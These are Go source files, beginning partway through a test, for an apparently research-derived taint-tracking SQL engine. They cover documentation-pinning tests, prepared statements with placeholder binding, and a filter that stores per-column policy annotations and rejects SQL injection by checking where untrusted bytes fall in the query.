	bound, err := argExprs([]any{"u@example.org", core.NewStringPolicy("s3cretpw", pol)})
	if err != nil {
		t.Fatal(err)
	}
	stmt, err = bindStatement(stmt, nil, bound)
	if err != nil {
		t.Fatal(err)
	}
	rewritten, err := RewriteWithPolicies(engine, stmt)
	if err != nil {
		t.Fatal(err)
	}
	if got := rewritten.SQL(); got != handed {
		t.Errorf("bound rewrite renders\n  %s\nbut docs/SQL.md pins\n  %s", got, handed)
	}
	if _, _, err := engine.ExecuteRaw(rewritten); err != nil {
		t.Fatalf("execute rewritten: %v", err)
	}
}

// TestOrderedIndexDocExamples pins docs/SQL.md §4's worked examples:
// the block's setup statements build the documented table, each
// documented query runs against the indexed engine AND a forced-scan
// twin (no CREATE INDEX), and both must produce exactly the documented
// first-column values in the documented order — the doc's range, LIKE,
// ORDER BY pushdown, NULL-placement, and coercion-fallback claims all
// stay live.
func TestOrderedIndexDocExamples(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- ordered-index:begin -->")
	end := strings.Index(text, "<!-- ordered-index:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its ordered-index:begin/end markers")
	}

	indexed, scan := NewEngine(), NewEngine()
	exec := func(e *Engine, q string) {
		t.Helper()
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		if _, _, err := e.ExecuteRaw(stmt); err != nil {
			t.Fatalf("execute %q: %v", q, err)
		}
	}

	var query string
	checked := 0
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, "-- SELECT"):
			query = strings.TrimPrefix(line, "-- ")
		case strings.HasPrefix(line, "--   -> "):
			if query == "" {
				t.Fatalf("expected values %q without a preceding query", line)
			}
			var want []string
			for _, v := range strings.Split(strings.TrimPrefix(line, "--   -> "), ",") {
				want = append(want, strings.TrimSpace(v))
			}
			for name, e := range map[string]*Engine{"indexed": indexed, "scan": scan} {
				stmt, err := Parse(core.NewString(query))
				if err != nil {
					t.Fatalf("parse %q: %v", query, err)
				}
				res, _, err := e.ExecuteRaw(stmt)
				if err != nil {
					t.Fatalf("%s: execute %q: %v", name, query, err)
				}
				var got []string
				for _, row := range res.rows {
					got = append(got, row[0].String())
				}
				if strings.Join(got, ", ") != strings.Join(want, ", ") {
					t.Errorf("%s: %s\n  doc pins %v\n  got      %v", name, query, want, got)
				}
			}
			query = ""
			checked++
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--") || strings.HasPrefix(line, "--"):
		default: // setup statement
			exec(indexed, line)
			if !strings.HasPrefix(line, "CREATE INDEX") {
				exec(scan, line)
			}
		}
	}
	if checked < 5 {
		t.Fatalf("ordered-index block pins only %d queries; the doc examples shrank", checked)
	}
}

// TestTxVisibilityDocExample executes docs/SQL.md §9's worked
// visibility timeline step by step: the snapshot read (step 3), the
// per-row commit that preserves a concurrent direct write (steps 5–6),
// and the first-committer-wins rejection (steps 8–10). If the
// visibility rules change, the doc's table must change with this test.
func TestTxVisibilityDocExample(t *testing.T) {
	db := Open(core.NewRuntime())
	db.MustExec("CREATE TABLE accounts (owner TEXT, balance INT)")
	db.MustExec("INSERT INTO accounts (owner, balance) VALUES ('alice', 70), ('bob', 30)")
	balance := func(q interface {
		QueryRaw(string, ...any) (*Result, error)
	}, owner string) int64 {
		t.Helper()
		res, err := q.QueryRaw("SELECT balance FROM accounts WHERE owner = ?", owner)
		if err != nil {
			t.Fatal(err)
		}
		if res.Len() != 1 {
			t.Fatalf("%s: %d rows", owner, res.Len())
		}
		return res.Get(0, "balance").Int.Value()
	}

	// Steps 1–4: T1's snapshot predates the direct write and holds.
	t1 := db.Begin()
	if got := balance(t1, "alice"); got != 70 {
		t.Fatalf("step 1: alice = %d, want 70", got)
	}
	db.MustExec("UPDATE accounts SET balance = 100 WHERE owner = 'alice'")
	if got := balance(t1, "alice"); got != 70 {
		t.Fatalf("step 3: alice = %d, want 70 (snapshot read)", got)
	}
	if got := balance(db, "alice"); got != 100 {
		t.Fatalf("step 4: alice = %d, want 100", got)
	}

	// Steps 5–6: T1 writes only bob, so its commit succeeds and the
	// concurrent alice write survives the merge.
	t1.MustExec("UPDATE accounts SET balance = 35 WHERE owner = 'bob'")
	if err := t1.Commit(); err != nil {
		t.Fatalf("step 5: commit = %v, want nil (write sets are per-row)", err)
	}
	if a, b := balance(db, "alice"), balance(db, "bob"); a != 100 || b != 35 {
		t.Fatalf("step 6: alice = %d, bob = %d, want 100, 35", a, b)
	}

	// Steps 7–10: the lost-update rejection.
	t2, t3 := db.Begin(), db.Begin()
	if b2, b3 := balance(t2, "bob"), balance(t3, "bob"); b2 != 35 || b3 != 35 {
		t.Fatalf("step 7: T2 sees %d, T3 sees %d, want 35, 35", b2, b3)
	}
	t2.MustExec("UPDATE accounts SET balance = 36 WHERE owner = 'bob'")
	t3.MustExec("UPDATE accounts SET balance = 40 WHERE owner = 'bob'")
	if err := t2.Commit(); err != nil {
		t.Fatalf("step 8: %v", err)
	}
	if err := t3.Commit(); !errors.Is(err, ErrTxConflict) {
		t.Fatalf("step 9: commit = %v, want ErrTxConflict", err)
	}
	if got := balance(db, "bob"); got != 36 {
		t.Fatalf("step 10: bob = %d, want 36", got)
	}
}

// TestJoinAggDocExamples executes docs/SQL.md §10.5's worked block
// verbatim. Every single-quoted setup literal is tainted with
// docs.ReviewPolicy before execution, each pinned query runs through
// BOTH executors (diffPlanned: hash join vs nested-loop oracle), and
// the first column of each result row must match the documented value,
// NULLness, and taint: a † marker pins "this cell carries the policy",
// its absence pins "this cell carries none". The doc's propagation
// claims — COUNT(*)/SUM of untainted ints stay clean while joined
// strings, MIN, and unioned group keys stay tainted — cannot drift
// from the engine without failing here.
func TestJoinAggDocExamples(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- join-agg:begin -->")
	end := strings.Index(text, "<!-- join-agg:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its join-agg:begin/end markers")
	}

	db := Open(core.NewRuntime())
	pol := &docReviewPolicy{}
	// Taint the bytes between each quote pair, exactly as an application
	// splicing untrusted tracked strings into SQL text would.
	taintLiterals := func(q string) core.String {
		parts := strings.Split(q, "'")
		out := core.NewString(parts[0])
		for i := 1; i < len(parts); i++ {
			out = core.Concat(out, core.NewString("'"))
			if i%2 == 1 {
				out = core.Concat(out, core.NewStringPolicy(parts[i], pol))
			} else {
				out = core.Concat(out, core.NewString(parts[i]))
			}
		}
		return out
	}

	var query string
	checked := 0
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, "-- SELECT"):
			query = strings.TrimPrefix(line, "-- ")
		case strings.HasPrefix(line, "--   -> "):
			if query == "" {
				t.Fatalf("expected values %q without a preceding query", line)
			}
			type wantCell struct {
				val     string
				tainted bool
			}
			var want []wantCell
			for _, v := range strings.Split(strings.TrimPrefix(line, "--   -> "), ",") {
				v = strings.TrimSpace(v)
				w := wantCell{val: strings.TrimSuffix(v, "†"), tainted: strings.HasSuffix(v, "†")}
				want = append(want, w)
			}
			diffPlanned(t, db, query)
			res, err := db.Query(core.NewString(query))
			if err != nil {
				t.Fatalf("%s: %v", query, err)
			}
			if res.Len() != len(want) {
				t.Fatalf("%s: %d rows, doc pins %d", query, res.Len(), len(want))
			}
			for i, w := range want {
				c := res.Rows[i][0]
				switch {
				case w.val == "NULL":
					if !c.Null {
						t.Errorf("%s row %d: %q, doc pins NULL", query, i, c.Text().Raw())
					}
				case c.Null:
					t.Errorf("%s row %d: NULL, doc pins %q", query, i, w.val)
				case c.Text().Raw() != w.val:
					t.Errorf("%s row %d: %q, doc pins %q", query, i, c.Text().Raw(), w.val)
				}
				if got := c.Text().IsTainted(); got != w.tainted {
					t.Errorf("%s row %d (%s): tainted=%v, doc pins %v", query, i, w.val, got, w.tainted)
				}
			}
			query = ""
			checked++
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--") || strings.HasPrefix(line, "--"):
		default: // setup statement, quoted literals tainted
			if _, err := db.Exec(taintLiterals(line)); err != nil {
				t.Fatalf("setup %q: %v", line, err)
			}
		}
	}
	if checked < 6 {
		t.Fatalf("join-agg block pins only %d queries; the doc examples shrank", checked)
	}
}
