package sqldb

import (
	"fmt"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// Prepared statements: the query API the paper's string-splicing filter
// grew into. A Stmt is compiled once — one tokenize, one parse — from
// query text containing `?` binding placeholders; every execution binds
// argument *values* (tracked or plain) into the cached plan template.
// Bound values never appear in query text, so they cannot reshape the
// statement: injection through a bound slot is structurally impossible,
// and the §5.3 injection assertions skip bound slots by construction
// (they inspect the text, and the text holds only `?`). Policies on
// bound values flow into shadow policy columns exactly as literal
// policies do (Figure 4), because binding produces the same literal
// expressions the parser would have.
//
// Repeated executions run at 0 tokenizes and 0 parses per operation —
// TokenizeCount and ParseCount pin this in tests and in
// BenchmarkSQLPreparedLookup.

// argExpr converts one bound argument into the literal expression the
// parser would have produced for it: tracked values keep their policy
// sets (core.String per-character; core.Int whole-value, rendered onto
// its digits for policy-column persistence), plain Go values bind
// untainted.
func argExpr(a any) (Expr, error) {
	switch v := a.(type) {
	case nil:
		return &NullLit{}, nil
	case NamedArg:
		return nil, fmt.Errorf("sqldb: named argument %q outside a prepared-statement execution", v.Name)
	case core.String:
		return &StringLit{Val: v}, nil
	case core.Int:
		return &IntLit{Val: v.Value(), Src: v.ToString()}, nil
	case string:
		return &StringLit{Val: core.NewString(v)}, nil
	case []byte:
		return &StringLit{Val: core.NewString(string(v))}, nil
	case int:
		return &IntLit{Val: int64(v)}, nil
	case int64:
		return &IntLit{Val: v}, nil
	case int32:
		return &IntLit{Val: int64(v)}, nil
	case int16:
		return &IntLit{Val: int64(v)}, nil
	case int8:
		return &IntLit{Val: int64(v)}, nil
	case uint8:
		return &IntLit{Val: int64(v)}, nil
	case uint16:
		return &IntLit{Val: int64(v)}, nil
	case uint32:
		return &IntLit{Val: int64(v)}, nil
	case bool:
		if v {
			return &IntLit{Val: 1}, nil
		}
		return &IntLit{Val: 0}, nil
	default:
		return nil, fmt.Errorf("sqldb: cannot bind %T (want core.String, core.Int, string, []byte, integer, bool, or nil)", a)
	}
}

// argExprs converts a bound-argument list; index i of the result binds
// placeholder ?i.
func argExprs(args []any) ([]Expr, error) {
	if len(args) == 0 {
		return nil, nil
	}
	out := make([]Expr, len(args))
	for i, a := range args {
		ex, err := argExpr(a)
		if err != nil {
			return nil, fmt.Errorf("%w (argument %d)", err, i)
		}
		out[i] = ex
	}
	return out, nil
}

// phSlot maps one placeholder slot of a plan template to its binding
// ordinal. Positional `?` placeholders get sequential ordinals; repeated
// `:name` placeholders share one ordinal, so a single bound argument can
// fill several slots.
type phSlot struct {
	slot int // literal-slot index in the template
	ord  int // binding ordinal (Token.ParamIdx)
}

// NamedArg binds a value to a `:name` placeholder by name instead of by
// position. Construct one with Named. A statement execution must bind
// either all positionally or all by name.
type NamedArg struct {
	Name  string
	Value any
}

// Named returns a NamedArg binding value to the `:name` placeholder.
func Named(name string, value any) NamedArg { return NamedArg{Name: name, Value: value} }

// Stmt is a prepared statement: query text compiled once, executed many
// times with bound arguments. Create one with DB.Prepare or Tx.Prepare;
// a Stmt is safe for concurrent use (its compiled state is immutable;
// per-execution state lives on the stack).
type Stmt struct {
	db *DB
	tx *Tx // non-nil when prepared inside a transaction

	query   core.String
	plan    *cachedPlan // shared template via the filter's plan cache
	fixed   []Expr      // per-slot inline-literal expressions; nil at placeholder slots
	phSlots []phSlot    // placeholder slot index → binding ordinal, fixed at Prepare
	names   []string    // binding ordinal → placeholder name ("" for positional)
	nargs   int         // number of distinct binding ordinals

	// direct is the fallback when the parameterized template could not
	// be compiled (e.g. a shape the template parser rejects): the
	// original token stream parsed as-is, with Placeholder nodes bound
	// per execution. Still 0 parses per op.
	direct Statement

	// Assertion verdicts precomputed against the immutable query text,
	// so executions consult flags without re-tokenizing: the strategy-1
	// unsanitized range and the strategy-2 tainted-structure error.
	s1Start, s1End int
	s1Found        bool
	s2Err          error
	// textUntrusted notes untrusted bytes in the prepared text itself;
	// with auto-sanitize enabled such text must re-lex per execution
	// under the taint-aware tokenizer (the slow, faithful path).
	textUntrusted bool
	// lexErr defers a standard-lexer failure on untrusted-tainted text
	// to execution time: under auto-sanitize the taint-aware tokenizer
	// may accept what the standard lexer rejects (e.g. an unbalanced
	// untrusted quote), so the verdict belongs to the mode active at
	// execution, exactly as on the text path.
	lexErr error
}

// prepareStmt compiles query text into a Stmt against db's plan cache.
// The text is tokenized exactly once here; executions tokenize zero
// times (TokenizeCount pins both).
func prepareStmt(db *DB, tx *Tx, q core.String) (*Stmt, error) {
	s := &Stmt{db: db, tx: tx, query: q}
	_, _, s.textUntrusted = q.FindPolicy(sanitize.IsUntrusted)
	s.s1Start, s.s1End, s.s1Found = sanitize.UnsanitizedSQL(q)

	toks, err := Lex(q)
	if err != nil {
		if !s.textUntrusted {
			return nil, err
		}
		// Untrusted bytes broke the standard lexer; the auto-sanitizing
		// tokenizer may still accept this text as inert values, so keep
		// the statement and let each execution's active mode decide.
		s.lexErr = err
		s.s2Err = err
		return s, nil
	}
	s.nargs = countPlaceholders(toks)
	s.names = placeholderNames(toks)
	s.s2Err = checkTaintedStructureTokens(q, toks)

	plans := db.filter.planner()
	plan, cerr := s.compileTemplate(plans, toks)
	if cerr != nil {
		// Template trouble: parse the original stream once and keep the
		// statement with its Placeholder nodes for per-exec binding.
		// Errors come from the original stream, matching Parse exactly.
		direct, derr := ParseTokens(toks)
		if derr != nil {
			return nil, derr
		}
		s.direct = direct
		s.plan = &cachedPlan{tmpl: direct}
	} else {
		s.plan = plan
	}
	return s, nil
}

// compileTemplate resolves the prepared text's plan template,
// pre-converts every inline-literal slot to its expression, and records
// the placeholder slot positions, so executions do no token work at
// all.
func (s *Stmt) compileTemplate(plans *planCache, toks []Token) (*cachedPlan, error) {
	plan, lits, cached, err := plans.compile(toks, planModeStandard)
	if err != nil {
		return nil, err
	}
	s.fixed = make([]Expr, len(lits))
	for i, t := range lits {
		if t.Type == TokPlaceholder {
			s.phSlots = append(s.phSlots, phSlot{slot: i, ord: t.ParamIdx})
			continue
		}
		ex, lerr := litExpr(t)
		if lerr != nil {
			return nil, lerr
		}
		s.fixed[i] = ex
	}
	if cached {
		plans.hits.Add(1)
	} else {
		plans.misses.Add(1)
	}
	return plan, nil
}

// NumArgs returns the number of `?` placeholders the statement binds.
func (s *Stmt) NumArgs() int { return s.nargs }

// Text returns the prepared query text.
func (s *Stmt) Text() core.String { return s.query }

// bind instantiates the statement with the given bound-argument
// expressions. No tokenizer and no parser run here.
func (s *Stmt) bind(bound []Expr) (Statement, error) {
	if s.lexErr != nil {
		// Deferred standard-lexer failure: without the auto-sanitizing
		// mode (which routes execution through the text path before
		// bind is reached), the text is as unexecutable as it was on
		// the text path.
		return nil, s.lexErr
	}
	if len(bound) != s.nargs {
		return nil, fmt.Errorf("sqldb: statement has %d placeholder(s) but %d bound argument(s)", s.nargs, len(bound))
	}
	if s.direct != nil {
		return bindStatement(s.direct, nil, bound)
	}
	binds := s.fixed
	if s.nargs > 0 {
		binds = make([]Expr, len(s.fixed))
		copy(binds, s.fixed)
		for _, m := range s.phSlots {
			binds[m.slot] = bound[m.ord]
		}
	}
	return bindStatement(s.plan.tmpl, binds, nil)
}

// bindArgs converts the caller's argument list to per-ordinal bound
// expressions. Positional calls bind in order; NamedArg calls bind by
// `:name`, in any order, with repeats of a name sharing one ordinal.
// Mixing the two styles in one call is an error, as is an unknown,
// missing, or duplicate name.
func (s *Stmt) bindArgs(args []any) ([]Expr, error) {
	named := 0
	for _, a := range args {
		if _, ok := a.(NamedArg); ok {
			named++
		}
	}
	if named == 0 {
		return argExprs(args)
	}
	if named != len(args) {
		return nil, fmt.Errorf("sqldb: cannot mix named and positional arguments in one execution")
	}
	bound := make([]Expr, s.nargs)
	seen := make([]bool, s.nargs)
	for _, a := range args {
		na := a.(NamedArg)
		ord := -1
		for i, n := range s.names {
			if n != "" && n == na.Name {
				ord = i
				break
			}
		}
		if ord < 0 {
			return nil, fmt.Errorf("sqldb: no placeholder named %q in statement", na.Name)
		}
		if seen[ord] {
			return nil, fmt.Errorf("sqldb: placeholder %q bound twice", na.Name)
		}
		ex, err := argExpr(na.Value)
		if err != nil {
			return nil, fmt.Errorf("%w (argument %q)", err, na.Name)
		}
		bound[ord], seen[ord] = ex, true
	}
	for i, ok := range seen {
		if !ok {
			return nil, fmt.Errorf("sqldb: placeholder %q not bound", s.names[i])
		}
	}
	return bound, nil
}

// ReadOnly reports whether the statement is a SELECT — the only
// statement form a read replica will execute. Statements whose compile
// was deferred (untrusted text needing the auto-sanitizing lexer) report
// false: their shape is unknown until execution.
func (s *Stmt) ReadOnly() bool {
	if s.lexErr != nil {
		return false
	}
	tmpl := s.direct
	if tmpl == nil && s.plan != nil {
		tmpl = s.plan.tmpl
	}
	_, ok := tmpl.(*Select)
	return ok
}

// preparedExec is the value the prepared-statement API routes through
// the SQL channel in place of query text: the compiled statement plus
// its bound arguments, already converted to literal expressions. The
// RESIN filter recognizes it and executes the bound plan — arguments
// travel as values, never as text.
type preparedExec struct {
	stmt  *Stmt
	bound []Expr
}

// Query executes the prepared statement with the given arguments bound
// into its placeholders — positionally for `?`, or via Named values for
// `:name` — and returns the tracked result.
func (s *Stmt) Query(args ...any) (*Result, error) {
	bound, err := s.bindArgs(args)
	if err != nil {
		return nil, err
	}
	if s.tx != nil {
		return s.tx.queryPrepared(s, bound)
	}
	return s.db.queryPrepared(s, bound)
}

// Exec executes the prepared statement and returns the number of rows
// affected (INSERT/UPDATE/DELETE; 0 for other statements).
func (s *Stmt) Exec(args ...any) (int, error) {
	res, err := s.Query(args...)
	if err != nil {
		return 0, err
	}
	return res.Affected, nil
}

// Prepare compiles query text — with `?` binding placeholders — into a
// Stmt executing against this database. The text is tokenized and
// parsed exactly once; see the package comment in this file for the
// binding and assertion semantics.
func (db *DB) Prepare(q core.String) (*Stmt, error) {
	return prepareStmt(db, nil, q)
}

// PrepareRaw is Prepare for untracked query text.
func (db *DB) PrepareRaw(q string) (*Stmt, error) { return db.Prepare(core.NewString(q)) }

// MustPrepare compiles untracked query text and panics on error; used
// by application startup code preparing its hot statements.
func (db *DB) MustPrepare(q string) *Stmt {
	st, err := db.PrepareRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: prepare %s: %v", q, err))
	}
	return st
}

// queryPrepared executes a prepared statement against the database,
// through the channel's filter chain when tracking is enabled.
func (db *DB) queryPrepared(s *Stmt, bound []Expr) (*Result, error) {
	engine := db.Engine()
	out, err := db.channel.Call([]any{s.query, engine, &preparedExec{stmt: s, bound: bound}})
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	// Tracking disabled (or no filter consumed the call): bind and
	// execute raw — still 0 tokenizes / 0 parses.
	return execPreparedRaw(s, bound, engine)
}

// execPreparedRaw binds and executes without policy persistence (the
// untracked path).
func execPreparedRaw(s *Stmt, bound []Expr, engine *Engine) (*Result, error) {
	stmt, err := s.bind(bound)
	if err != nil {
		return nil, err
	}
	raw, affected, err := engine.ExecuteRaw(stmt)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, affected, false, "")
}

// Prepare compiles query text into a Stmt executing against this
// transaction's speculative state. The Stmt becomes unusable once the
// transaction commits or rolls back (ErrTxDone).
func (tx *Tx) Prepare(q core.String) (*Stmt, error) {
	return prepareStmt(tx.db, tx, q)
}

// PrepareRaw is Prepare for untracked query text.
func (tx *Tx) PrepareRaw(q string) (*Stmt, error) { return tx.Prepare(core.NewString(q)) }

// queryPrepared executes a prepared statement against the transaction's
// speculative engine.
func (tx *Tx) queryPrepared(s *Stmt, bound []Expr) (*Result, error) {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return nil, ErrTxDone
	}
	out, err := tx.db.channel.Call([]any{s.query, tx.spec, &preparedExec{stmt: s, bound: bound}})
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	return execPreparedRaw(s, bound, tx.spec)
}
