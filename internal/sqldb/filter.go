package sqldb

import (
	"fmt"
	"strings"
	"sync"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// PolicyColPrefix prefixes the shadow column that stores the serialized
// policy annotation for a data column (Figure 4: "for a CREATE TABLE
// query, the filter adds an additional policy column to store the
// serialized policy for each data column").
const PolicyColPrefix = "__policy_"

func policyColName(col string) string { return PolicyColPrefix + strings.ToLower(col) }

// IsPolicyColumn reports whether a column name is a shadow policy column.
func IsPolicyColumn(name string) bool { return strings.HasPrefix(name, PolicyColPrefix) }

// InjectionError reports a SQL injection assertion failure, pointing at
// the offending character range of the query.
type InjectionError struct {
	Strategy string
	Query    string
	Start    int
	End      int
}

func (e *InjectionError) Error() string {
	snippet := e.Query
	if e.End <= len(snippet) && e.Start <= e.End {
		snippet = snippet[e.Start:e.End]
	}
	return fmt.Sprintf("sqldb: SQL injection assertion (%s) rejected query: untrusted bytes %d..%d (%q)",
		e.Strategy, e.Start, e.End, snippet)
}

// ResinSQLFilter is the default filter object RESIN attaches to the
// function used to issue SQL queries (§3.4.1). It always performs policy
// persistence — rewriting CREATE TABLE to add policy columns, INSERT and
// UPDATE to store each value's serialized policy, and SELECT to fetch and
// re-attach policies. The two injection defenses of §5.3 are assertions
// the application enables on top:
//
//   - RequireSanitizedMarkers (strategy 1): reject queries containing
//     characters with UntrustedData but not SQLSanitized;
//   - RejectTaintedStructure (strategy 2): tokenize the final query and
//     reject untrusted characters outside string/number literal values
//     (keywords, identifiers, operators, whitespace, comments).
type ResinSQLFilter struct {
	mu                sync.Mutex
	requireSanitized  bool
	rejectTaintedStru bool
	autoSanitize      bool
}

// RequireSanitizedMarkers enables/disables the strategy-1 assertion.
func (f *ResinSQLFilter) RequireSanitizedMarkers(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.requireSanitized = on
}

// RejectTaintedStructure enables/disables the strategy-2 assertion.
func (f *ResinSQLFilter) RejectTaintedStructure(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.rejectTaintedStru = on
}

// AutoSanitizeUntrusted enables the §5.3 variation on strategy 2: instead
// of rejecting queries whose structure is tainted, the tokenizer keeps
// contiguous untrusted bytes in one value token, so untrusted data cannot
// affect the command structure of the query at all. It subsumes the
// reject-based strategies for injection (they may still be enabled
// together; the checks run first).
func (f *ResinSQLFilter) AutoSanitizeUntrusted(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.autoSanitize = on
}

func (f *ResinSQLFilter) flags() (s1, s2, auto bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.requireSanitized, f.rejectTaintedStru, f.autoSanitize
}

// FilterFunc interposes on the query function: args is {query
// core.String, engine *Engine}; on success it returns {result *Result}.
func (f *ResinSQLFilter) FilterFunc(ch *core.Channel, args []any) ([]any, error) {
	if len(args) != 2 {
		return nil, fmt.Errorf("sqldb: filter expects (query, engine), got %d args", len(args))
	}
	q, ok := args[0].(core.String)
	if !ok {
		return nil, fmt.Errorf("sqldb: filter arg 0 must be core.String, got %T", args[0])
	}
	engine, ok := args[1].(*Engine)
	if !ok {
		return nil, fmt.Errorf("sqldb: filter arg 1 must be *Engine, got %T", args[1])
	}

	s1, s2, auto := f.flags()
	if s1 {
		if start, end, found := sanitize.UnsanitizedSQL(q); found {
			return nil, &core.AssertionError{
				Context: ch.Context(), Op: "export_check",
				Err: &InjectionError{Strategy: "sanitized-markers", Query: q.Raw(), Start: start, End: end},
			}
		}
	}
	if s2 {
		if err := checkTaintedStructure(q); err != nil {
			return nil, &core.AssertionError{Context: ch.Context(), Op: "export_check", Err: err}
		}
	}

	var stmt Statement
	var err error
	if auto {
		stmt, err = ParseAutoSanitized(q)
	} else {
		stmt, err = Parse(q)
	}
	if err != nil {
		return nil, err
	}
	res, err := executeWithPolicies(engine, stmt)
	if err != nil {
		return nil, err
	}
	return []any{res}, nil
}

// checkTaintedStructure implements strategy 2: every byte of the query
// that is not inside a string or number literal — keywords, identifiers,
// operators, punctuation, whitespace, comments — must carry no
// UntrustedData policy.
func checkTaintedStructure(q core.String) error {
	toks, err := Lex(q)
	if err != nil {
		return err
	}
	// Collect the byte ranges occupied by value literals; every tainted
	// byte must fall inside one of them.
	type rng struct{ start, end int }
	var values []rng
	for _, t := range toks {
		if t.Type == TokString || t.Type == TokNumber {
			values = append(values, rng{t.Start, t.End})
		}
	}
	inValue := func(i int) bool {
		for _, r := range values {
			if i >= r.start && i < r.end {
				return true
			}
		}
		return false
	}
	var bad *InjectionError
	q.EachTaintedSpan(func(start, end int, ps *core.PolicySet) error { //nolint:errcheck
		if bad != nil || !ps.Any(sanitize.IsUntrusted) {
			return nil
		}
		for i := start; i < end; i++ {
			if !inValue(i) {
				bad = &InjectionError{Strategy: "tainted-structure", Query: q.Raw(), Start: i, End: end}
				return nil
			}
		}
		return nil
	})
	if bad != nil {
		return bad
	}
	return nil
}

// Cell is one result cell with its re-attached policies.
type Cell struct {
	Null  bool
	IsInt bool
	Int   core.Int
	Str   core.String
}

// Text renders the cell as a tracked string (integer cells render their
// digits carrying the integer's policy set; NULL renders empty).
func (c Cell) Text() core.String {
	switch {
	case c.Null:
		return core.String{}
	case c.IsInt:
		return c.Int.ToString()
	default:
		return c.Str
	}
}

// Result is a query result with policies attached to each cell.
type Result struct {
	Columns  []string
	Rows     [][]Cell
	Affected int
}

// ColumnIndex returns the index of the named column, or -1.
func (r *Result) ColumnIndex(name string) int {
	for i, c := range r.Columns {
		if strings.EqualFold(c, name) {
			return i
		}
	}
	return -1
}

// Get returns the cell at row i, column name. It returns a NULL cell for
// unknown columns.
func (r *Result) Get(i int, name string) Cell {
	ci := r.ColumnIndex(name)
	if ci < 0 || i < 0 || i >= len(r.Rows) {
		return Cell{Null: true}
	}
	return r.Rows[i][ci]
}

// Len returns the number of rows.
func (r *Result) Len() int { return len(r.Rows) }

// executeWithPolicies rewrites stmt to persist/fetch policy columns,
// executes it, and re-attaches policies to the result (Figure 4).
func executeWithPolicies(engine *Engine, stmt Statement) (*Result, error) {
	switch s := stmt.(type) {
	case *CreateTable:
		return execCreate(engine, s)
	case *Insert:
		return execInsert(engine, s)
	case *Select:
		return execSelect(engine, s)
	case *Update:
		return execUpdate(engine, s)
	default: // DropTable, Delete need no rewriting.
		raw, affected, err := engine.ExecuteRaw(stmt)
		if err != nil {
			return nil, err
		}
		return fromRaw(raw, affected, false)
	}
}

// execCreate adds one TEXT policy column per data column.
func execCreate(engine *Engine, s *CreateTable) (*Result, error) {
	cols := make([]ColumnDef, 0, 2*len(s.Cols))
	cols = append(cols, s.Cols...)
	for _, c := range s.Cols {
		cols = append(cols, ColumnDef{Name: policyColName(c.Name), Type: ColText})
	}
	_, affected, err := engine.ExecuteRaw(&CreateTable{Table: s.Table, Cols: cols})
	if err != nil {
		return nil, err
	}
	return &Result{Affected: affected}, nil
}

// annotationFor serializes the policy spans of a literal's stored form.
// It returns the expression to store in the policy column.
func annotationFor(e Expr) (Expr, error) {
	var tracked core.String
	switch v := e.(type) {
	case *StringLit:
		tracked = v.Val
	case *IntLit:
		tracked = v.Src
	case *NullLit:
		return &NullLit{}, nil
	default:
		return nil, fmt.Errorf("sqldb: expected literal, got %T", e)
	}
	ann, err := core.EncodeSpans(tracked)
	if err != nil {
		return nil, err
	}
	if ann == nil {
		return &NullLit{}, nil
	}
	return &StringLit{Val: core.NewString(string(ann))}, nil
}

// policyColSet returns the lower-cased policy column names present in the
// table schema (it may be empty, if the table was created while tracking
// was disabled). One schema fetch serves the whole statement.
func policyColSet(engine *Engine, table string) map[string]bool {
	schema, err := engine.Schema(table)
	if err != nil {
		return nil
	}
	out := make(map[string]bool)
	for _, c := range schema {
		name := strings.ToLower(c.Name)
		if strings.HasPrefix(name, PolicyColPrefix) {
			out[name] = true
		}
	}
	return out
}

// execInsert augments each row with the serialized policy of each value.
func execInsert(engine *Engine, s *Insert) (*Result, error) {
	pcols := policyColSet(engine, s.Table)
	cols := append([]string(nil), s.Columns...)
	augment := make([]bool, len(s.Columns))
	for i, c := range s.Columns {
		if !IsPolicyColumn(c) && pcols[policyColName(c)] {
			augment[i] = true
			cols = append(cols, policyColName(c))
		}
	}
	rows := make([][]Expr, 0, len(s.Rows))
	for _, row := range s.Rows {
		out := append([]Expr(nil), row...)
		for i := range s.Columns {
			if !augment[i] {
				continue
			}
			ann, err := annotationFor(row[i])
			if err != nil {
				return nil, err
			}
			out = append(out, ann)
		}
		rows = append(rows, out)
	}
	_, affected, err := engine.ExecuteRaw(&Insert{Table: s.Table, Columns: cols, Rows: rows})
	if err != nil {
		return nil, err
	}
	return &Result{Affected: affected}, nil
}

// execUpdate augments each SET clause with its policy column.
func execUpdate(engine *Engine, s *Update) (*Result, error) {
	pcols := policyColSet(engine, s.Table)
	set := append([]Assignment(nil), s.Set...)
	for _, a := range s.Set {
		if IsPolicyColumn(a.Column) || !pcols[policyColName(a.Column)] {
			continue
		}
		ann, err := annotationFor(a.Value)
		if err != nil {
			return nil, err
		}
		set = append(set, Assignment{Column: policyColName(a.Column), Value: ann})
	}
